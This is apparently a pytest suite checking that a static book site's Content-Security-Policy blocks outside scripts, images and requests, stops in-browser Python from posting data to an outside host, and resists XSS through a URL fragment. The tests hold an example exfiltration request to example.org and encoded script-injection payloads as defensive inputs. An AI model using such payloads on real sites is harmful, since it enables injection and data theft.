"""The security policy of every page: nothing from elsewhere, nothing to elsewhere, not even from Python."""
from __future__ import annotations

import re
import sys
from collections.abc import Callable

import pytest

from tests.conftest import ROOT, SITE, Visit
from tests.live import cell, switch_on

sys.path.insert(0, str(ROOT / "book" / "_ext"))
from mend import POLICY

Open = Callable[..., Visit]
PAGES = [path for path in sorted(SITE.rglob("*.html")) if not {"_static", "lite"} & set(path.relative_to(SITE).parts) and path != SITE / "index.html"]       # that one only leads on


@pytest.mark.parametrize("page", PAGES, ids=lambda path: str(path.relative_to(SITE)))
def test_the_policy_comes_first(page: object) -> None:
    text = page.read_text("utf-8")
    assert re.search(r"<head>\s*<meta http-equiv=\"Content-Security-Policy\" content=\"([^\"]*)\"", text)[1] == POLICY


def test_the_policy_names_no_other_host() -> None:
    assert "connect-src 'self';" in POLICY + ";"
    assert not re.search(r"https?:|\*|\bdata:[^;]*script", POLICY)


def test_a_script_or_a_request_for_elsewhere_is_refused(served: str, visit: Open) -> None:
    seen = visit(served + "chapters/01_towns.html")
    refused = seen.page.evaluate("""async () => {
        const blocked = [];
        document.addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective));
        document.head.append(Object.assign(document.createElement('script'), {src: 'https://example.org/x.js'}));
        document.body.append(Object.assign(document.createElement('img'), {src: 'https://example.org/x.png'}));
        await fetch('https://example.org/x.json').catch(() => {});
        await new Promise((done) => setTimeout(done, 300));
        return blocked.sort();
    }""")
    assert refused == ["connect-src", "img-src", "script-src-elem"]
    assert not seen.left, "a refused request is never sent"


@pytest.mark.skipif(not (SITE / "live").is_dir(), reason="no live layer: run `make live`, then `make book`")
def test_python_cannot_send_a_table_elsewhere(served: str, visit: Open) -> None:
    seen = visit(served + "chapters/01_towns.html")
    page = switch_on(seen)
    one = cell(page, "pair = agreement(")
    one.evaluate("""(c) => { c.editor.set("import js\\\\nrequest = js.XMLHttpRequest.new()\\\\nrequest.open('POST', 'https://example.org/take', False)\\\\nrequest.send('a table')".replaceAll('\\\\n', '\\n'));
        return c.page.run(c); }""")
    assert one.evaluate("(c) => c.ran") == "failed"
    assert "NetworkError" in one.evaluate("(c) => c.output.innerText")
    assert not seen.left


def test_a_link_with_a_state_injects_nothing(served: str, visit: Open) -> None:
    hostile = "#towns:bound=%3Cimg%20src%3Dx%20onerror%3D%22window.taken%3D1%22%3E&town=%3Cscript%3Ewindow.taken%3D1%3C%2Fscript%3E"
    seen = visit(served + "chapters/01_towns.html" + hostile, wait="networkidle")
    seen.page.wait_for_selector("[data-explorer=towns][data-alive]")
    assert seen.page.evaluate("window.taken") is None
    seen.clean()


def test_nothing_is_left_in_the_browser_but_what_was_asked_for(served: str, visit: Open) -> None:
    """No cookie, no tracker: the theme keeps its light or dark, and nothing else stands in the browser."""
    seen = visit(served + "chapters/01_towns.html", wait="networkidle")
    assert seen.page.context.cookies() == []
    assert set(seen.page.evaluate("Object.keys(localStorage)")) <= {"mode", "theme"}
